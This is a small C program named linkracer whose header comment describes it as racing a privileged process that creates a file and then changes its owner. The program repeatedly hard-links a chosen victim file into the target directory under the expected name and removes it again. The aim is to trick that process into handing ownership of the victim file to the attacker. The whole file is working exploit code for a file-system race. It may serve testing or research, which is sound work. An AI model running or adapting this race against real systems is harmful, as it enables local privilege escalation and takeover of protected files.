/* SPDX-License-Identifier: MIT */
/* linkracer DIR NAME VICTIM: keep putting a hard link to VICTIM at DIR/NAME
 * and taking it away again, until killed - the race against a privileged
 * process that creates DIR/NAME and then changes its owner by name.
 * VICTIM must be on DIR's file system. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: linkracer DIR NAME VICTIM\n");
		return 2;
	}
	int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dir < 0) {
		perror(argv[1]);
		return 1;
	}
	signal(SIGTERM, on_term);
	while (!stop) {
		/* Made under a side name, then renamed over whatever NAME is. */
		if (linkat(AT_FDCWD, argv[3], dir, ".linkracer", 0) == 0)
			renameat(dir, ".linkracer", dir, argv[2]);
		unlinkat(dir, argv[2], 0);
	}
	unlinkat(dir, ".linkracer", 0);
	return 0;
}
